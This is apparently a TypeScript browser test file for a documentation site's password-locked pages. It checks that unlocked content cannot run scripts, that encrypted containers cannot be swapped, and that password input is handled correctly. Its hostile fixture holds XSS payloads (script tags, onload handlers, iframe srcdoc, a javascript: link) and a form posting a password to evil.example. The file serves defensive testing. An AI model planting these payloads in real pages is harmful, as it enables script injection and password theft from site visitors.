import { hashSync } from 'bcryptjs';
import { expect, test } from 'vitest';
import { nameOfFile } from '../../../../renderer/shared/crypto/bytes.ts';
import { isLong, slow } from '../../../harness/is-long.ts';
import { comeToRest } from '../../../harness/open-browser.ts';
import { vectors } from '../../../security/vectors.ts';
import { typedInputs, typedPasswords } from '../../shared/crypto/typed-inputs.ts';
import { lockedSite, passwords, serveLockedSite, submit, waitForForm } from './lock-site.ts';

const hostile = `---
title: Hostile
password: ${passwords.page}
---

<img src="./sealed.png" alt="x" onload="window.ran = 1"><script>window.ran = 2</script>
<svg onload="window.ran = 3"></svg><iframe srcdoc="<script>parent.ran = 4</script>"></iframe>
<a href="javascript:window.ran = 5">A link</a>
<form action="https://evil.example"><input name="password"><button data-lock-again>x</button></form>

What is harmless.
`;

/** What hostile pages are told, which does not keep them from being published. */
const told = [
	...['unsafe-link', 'broken-link', 'missing-asset', 'image-insecure', 'image-unreadable', 'broken-anchor'],
	...['unknown-component', 'include-missing'],
];
const severity = JSON.stringify(Object.fromEntries(told.map((name) => [name, 'warning'])));

const typed = JSON.stringify(
	typedPasswords.map((password) => hashSync(password, '$2b$04$abcdefghijklmnopqrstuu')),
);

const lock = serveLockedSite({
	'site.config.ts': lockedSite['site.config.ts']!.replace(
		'locales: {',
		`checks: { severity: ${severity} }, locales: {`,
	).replace('rules: {', `rules: { '/en/guide/typed/': ${typed},`),
	'content/en/guide/4.typed.md': '# Typed\n\nIt was a password.\n',
	'content/en/guide/5.hostile.md': hostile,
	...Object.fromEntries(
		[0, 1, 2, 3].map((part) => [
			`content/en/guide/${6 + part}.vectors-${part}.md`,
			`---\ntitle: Vectors\npassword: ${passwords.page}\n---\n\n${vectors.filter((_, index) => index % 4 === part).join('\n\n')}\n\nThe end of it.\n`,
		]),
	),
});

test('nothing that stands in a locked page runs once it is unlocked (EN-19)', async () => {
	const page = await lock.publicSite('/en/guide/hostile/', { allow: /Failed to load resource/ });
	const asked: string[] = [];
	page.on('request', (request) => asked.push(request.url()));
	await submit(page, passwords.page);
	await page.getByText('What is harmless.').waitFor();
	for (const link of await page.locator('.content a', { hasText: 'A link' }).all()) await link.click();
	await comeToRest(page);
	expect(await page.evaluate(() => (window as unknown as { ran?: number }).ran)).toBeUndefined();
	expect(await page.locator('.content :is(script, iframe, form)').count()).toBe(0);
	expect(await page.locator('.content [data-lock-again]').count()).toBe(1);
	expect(asked.filter((url) => !url.startsWith(lock.url) && !url.startsWith('blob:'))).toEqual([]);
});

test.each(isLong ? [0, 1, 2, 3] : [0])(
	'nothing of the list of raw HTML and links runs there, part %i (EN-19, OS-01)',
	async (part) => {
		const [dialogs, asked]: string[][] = [[], []];
		const page = await lock.publicSite(`/en/guide/vectors-${part}/`, {
			allow: /Failed to load resource/,
			bypassCSP: true,
		});
		page.on('dialog', (dialog) => {
			dialogs!.push(dialog.message());
			void dialog.dismiss();
		});
		page.on('request', (request) => {
			if (request.resourceType() !== 'image') asked!.push(request.url());
		});
		await submit(page, passwords.page);
		await page.locator('[data-lock-again]').first().waitFor();
		await page.getByText('The end of it.').first().waitFor({ state: 'attached' });
		await comeToRest(page);
		expect(dialogs).toEqual([]);
		expect(await page.locator('.content :is(script, form, base, meta, object, embed)').count()).toBe(0);
		// An icon that is not installed comes from the services of the config.
		const own = /^(?:blob|data):|^https:\/\/api\.(?:iconify\.design|simplesvg\.com|unisvg\.com)\/mdi\.json\?/;
		expect(asked!.filter((url) => !url.startsWith(lock.url) && !own.test(url))).toEqual([]);
	},
);

test('another page’s file in a page’s place does not open (EN-08)', async () => {
	const page = await lock.publicSite('/en/guide/hostile/', { allow: /./ });
	await waitForForm(page);
	const other = await page.evaluate(async () => {
		const text = await (await fetch('/en/guide/secret/')).text();
		return /"container":"(_lock\/[0-9a-f]+\.bin)"/.exec(text)![1]!;
	});
	const own = await page.evaluate(
		() =>
			/"container":"(_lock\/[0-9a-f]+\.bin)"/.exec(
				document.querySelector('#domdocs-page')!.textContent!,
			)![1]!,
	);
	await page.context().route(`**/${own}`, async (route) => {
		await route.fulfill({ response: await route.fetch({ url: `${lock.url}/${other}`, maxRetries: 2 }) });
	});
	await submit(page, passwords.page);
	await page.locator('.lock-form[data-error="2"]').waitFor();
	expect(await page.getByText('Nobody reads this sentence').count()).toBe(0);
});

test.each<[string, string[]]>([
	['65 settings', Array.from({ length: 65 }, () => `$2b$04$${'.'.repeat(22)}`)],
])('slots with %s are damaged, and nothing is computed of them', async (_, settings) => {
	const page = await lock.publicSite('/en/guide/secret/');
	await waitForForm(page);
	const table = { version: 1, siteId: 'A'.repeat(22), epoch: '1', settings, slots: [], bundles: {} };
	const body = JSON.stringify(table);
	const file = `_lock/slots.${await nameOfFile(new TextEncoder().encode(body))}.json`;
	await page.context().route(`**/${file}`, (route) => route.fulfill({ body }));
	const answer = await page.evaluate(async (slots) => {
		const text = document.querySelector('#domdocs-page')!.textContent!;
		const [, script] = /"worker":"([^"]+)"/.exec(text)!;
		const worker = new Worker(`/${script}`, { type: 'module' });
		const answered = new Promise((resolve) => {
			worker.addEventListener('message', ({ data }) => resolve(data));
		});
		const request = { slots: `${location.origin}/${slots}`, password: 'any password' };
		worker.postMessage(request);
		return answered;
	}, file);
	expect(answer).toMatchObject({ failure: 2 });
});

test('each text that is typed opens what it should and nothing else (EN-06)', slow, async () => {
	const open = async () => {
		const opened = await lock.publicSite('/en/guide/typed/');
		await waitForForm(opened);
		return opened;
	};
	let page = await open();
	for (const [name, text, expected] of typedInputs) {
		await page.locator('.lock-form:not([data-error])').waitFor();
		await page.locator('input[type=password]').evaluate((input, value) => {
			(input as HTMLInputElement).value = value;
		}, text);
		await page.getByRole('button', { name: 'Confirm' }).click();
		const shown = page.getByText('It was a password.');
		const wrong = page.locator('.lock-form[data-error="1"]');
		await shown.or(wrong).first().waitFor();
		expect([name, await shown.isVisible()]).toEqual([name, expected === 'open']);
		if (expected === 'open') page = await open();
		else await page.locator('input[type=password]').dispatchEvent('input');
	}
});
